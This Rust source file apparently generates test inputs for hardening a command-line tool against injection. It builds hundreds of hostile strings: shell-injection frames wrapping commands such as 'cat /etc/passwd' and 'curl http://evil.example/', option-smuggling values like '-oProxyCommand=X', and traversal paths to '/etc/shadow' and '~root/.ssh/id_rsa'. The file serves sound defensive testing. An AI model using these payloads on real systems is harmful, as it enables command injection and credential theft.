//! Strings that a shell, an option parser, a path, a line reader or an encoding could read as something else.

/// At least five hundred of them, each once.
#[expect(clippy::too_many_lines, reason = "a table")]
pub(crate) fn hostile() -> Vec<String> {
    let commands = ["id", "touch /tmp/doorward-injected", "cat /etc/passwd", "curl http://evil.example/"];
    let mut all: Vec<String> = Vec::new();
    for command in commands {
        for frame in [
            ";X",
            "; X",
            "X;",
            "&X",
            "&& X",
            "|X",
            "|| X",
            "$(X)",
            "${X}",
            "`X`",
            "\nX\n",
            "\r\nX",
            "'; X #",
            "\"; X #",
            "')X('",
            "\\`X\\`",
            "<(X)",
            ">(X)",
            "$((X))",
            "a$(X)b",
            "%0aX",
            "%3bX",
            "!X",
            "#X",
            "{X,}",
            "*;X",
            "~;X",
            "$'X'",
            "$\"X\"",
            "<<<X",
            "\tX",
            "x=X",
            "X\\",
            "--exec=X",
            "-c X",
            "-oProxyCommand=X",
            "--upload-pack=X",
            "|&X",
            "\u{2028}X",
            "\u{ff1b}X",
            "\u{37e}X",
            "\u{202e}X",
            "{{X}}",
        ] {
            all.push(frame.replace('X', command));
        }
    }
    let options = [
        "-",
        "--",
        "-h",
        "--help",
        "-v",
        "--version",
        "-f",
        "-o",
        "-n",
        "--kubeconfig",
        "--token",
        "--server",
        "--namespace",
        "--all",
    ];
    for option in options {
        for frame in
            ["X", "X=1", "X 1", " X", "X ", "\u{2d}X", "X=$(id)", "X\n--all", "\u{2010}X", "\u{2212}X"]
        {
            all.push(frame.replace('X', option));
        }
    }
    let paths = [
        "/etc/passwd",
        "../../../etc/shadow",
        "/proc/self/environ",
        "file:///etc/passwd",
        "//host/share",
        "@/etc/passwd",
        "~root/.ssh/id_rsa",
        "\\\\host\\share",
        ".",
    ];
    for path in paths {
        for frame in ["X", "=X", "@X", "<X", ">X", ">>X", "X%00", "X\u{0}.json", "a/X", "X/", "X?x", "X#x"] {
            all.push(frame.replace('X', path));
        }
    }
    for c in " !\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~".chars() {
        all.extend([c.to_string(), format!("a{c}"), format!("{c}a"), format!("{c}{c}"), format!("a{c}b c")]);
    }
    all.extend(
        ["ünïcödé", "日本語", "🦀", "\u{feff}a", "a\u{200b}b", "A\u{30a}", "\u{1f468}\u{200d}\u{1f469}"]
            .map(ToOwned::to_owned),
    );
    // What no argument can hold is refused before: it is looked at elsewhere.
    all.retain(|one| !one.contains('\0') && !one.is_empty());
    all.sort();
    all.dedup();
    all
}
